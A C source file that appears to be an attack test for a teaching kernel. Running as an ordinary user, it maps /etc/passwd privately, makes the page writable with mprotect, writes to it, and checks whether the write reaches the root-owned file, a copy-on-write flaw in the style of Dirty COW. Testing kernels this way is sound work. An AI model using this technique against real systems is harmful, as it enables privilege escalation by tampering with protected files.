/*
 * Dirty COW's prize, by another way in.  A private mapping may be written, whatever the file allows: the
 * writer gets a copy.  The page that was read before is the file's own, until a write faults; a kernel that
 * makes it writable because the program said mprotect writes to the file, which is root's.
 */
#define _GNU_SOURCE
#include "user/attack/attack.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define STUDENT 1000 /* who may read /etc/passwd */

static uint64_t
first_word(int fd)
{
	uint64_t word;

	if (pread(fd, &word, sizeof(word), 0) != sizeof(word))
		give_up("/etc/passwd");
	return word;
}

/* What a child writes to its memory, and a program to its private page of a file, is its own. */
static void
write_legally(int fd)
{
	volatile uint64_t *mine = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	volatile uint64_t *copy = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	uint64_t before = first_word(fd);
	pid_t child;

	if (mine == MAP_FAILED || copy == MAP_FAILED)
		give_up("mmap");
	*mine = 1;
	child = fork();
	if (child == 0) {
		*mine = 2;
		_exit(*mine == 2 ? 0 : 1);
	}
	*copy = ~before;
	if (waitpid(child, NULL, 0) != child || *mine != 1 || *copy != ~before || first_word(fd) != before)
		give_up("a private write is not private");
}

static void
run(void)
{
	int fd = open("/etc/passwd", O_RDONLY);
	volatile uint64_t *page;
	uint64_t before;

	if (fd < 0 || setgid(STUDENT) != 0 || setuid(STUDENT) != 0)
		give_up("an ordinary user with /etc/passwd open");
	if (open("/etc/passwd", O_RDWR) >= 0)
		give_up("/etc/passwd is everybody's to write");
	step("legal: private writes, of a child and to a page of a file");
	write_legally(fd);

	step("illegal: a page of /etc/passwd is read, made writable, and written");
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (page == MAP_FAILED)
		give_up("mmap");
	before = *page;
	attack_address = (uint64_t)page;
	if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE) != 0)
		give_up("mprotect");
	*page = MAGIC;
	if (first_word(fd) != before)
		return;
	step("the file is what it was");
	exit(1);
}

ATTACK(cow) = {
	.name = "cow",
	.what = "a private write reaches a file that the writer may only read",
	.needs_off_x86_64 = "cow",
	.needs_off_aarch64 = "cow",
	.run = run,
};
